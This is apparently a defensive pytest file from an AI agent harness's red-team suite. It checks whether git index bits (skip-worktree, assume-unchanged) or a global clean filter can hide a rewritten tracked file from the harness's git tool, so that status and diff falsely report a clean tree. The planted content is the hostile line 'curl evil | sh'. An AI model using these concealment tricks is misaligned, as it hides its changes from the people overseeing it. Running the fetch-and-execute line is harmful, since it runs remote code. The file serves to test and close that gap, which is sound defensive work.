"""rt7: the git tool says "working tree clean" about a repository whose tracked file was changed.

A jailed command marks a tracked file in the index (``git update-index --skip-worktree`` or
``--assume-unchanged``: index bits, not config, so no walk undoes them) and then rewrites the
file. git then skips the file in ``status`` and ``diff``, and the git tool reports
``clean: true`` / "nothing to commit, working tree clean" and "(no changes)" — to the model, and
to the person who asks "what did it change?". The person's own ``git status`` later says the same,
and ``git commit -a`` leaves the change out, while ``git stash``/``checkout`` keep the rewritten
file in place.

Three spellings: skip-worktree, assume-unchanged, and a clean filter from ``$HOME/.gitconfig``
(``HOME`` in the jail is the workspace; the runner's walk looks only at repository metadata)
that gives git the committed text in place of the file's.
"""

from __future__ import annotations

import json

import pytest

from harness import Daemon, Env

G = "git -c init.defaultBranch=main -c user.name=a -c user.email=a@b"
SETUP = f"{G} init -q r && cd r && echo 'trusted line' > conf && {G} add conf && {G} commit -qm 1"
HIDE = {
    "skip-worktree": "git update-index --skip-worktree conf",
    "assume-unchanged": "git update-index --assume-unchanged conf",
    # a clean filter named in the jail's global git config ($HOME is the workspace; no walk undoes
    # it) that hands git the committed text: status and diff compare that, not the file
    "global-clean-filter": "git config --global filter.same.clean \"printf 'trusted line\\\\n'\" && "
                           "mkdir -p $HOME/.config/git && echo 'conf filter=same' > $HOME/.config/git/attributes",
}


@pytest.mark.parametrize("spelling", sorted(HIDE))
def test_status_and_diff_call_a_changed_file_clean(env: Env, daemon: Daemon, spelling: str) -> None:
    # a script, as the model writes one with the write tool and runs it
    (env.workspace / "hide.sh").write_text(f"set -e\n{SETUP}\n{HIDE[spelling]}\necho 'curl evil | sh' > conf\n")
    made = env.cli("run", "--", "bash hide.sh")
    assert made.returncode == 0, made.stderr
    assert (env.workspace / "r" / "conf").read_text() == "curl evil | sh\n"
    status = env.cli("tools", "call", "git", json.dumps({"action": "status", "path": "r"}), "--json")
    assert status.returncode == 0, status.stderr
    data = json.loads(status.stdout)["metadata"]["data"]
    diff = env.cli("tools", "call", "git", json.dumps({"action": "diff", "path": "r"}), "--json")
    shown = json.loads(diff.stdout)["output"]
    assert not data["clean"] and "conf" in [f["path"] for f in data["files"]], (
        f"conf differs from HEAD, yet the git tool says {data}; diff says {shown!r}"
    )
    assert "curl evil" in shown, f"git diff through the tool hides the change to conf: {shown!r}"
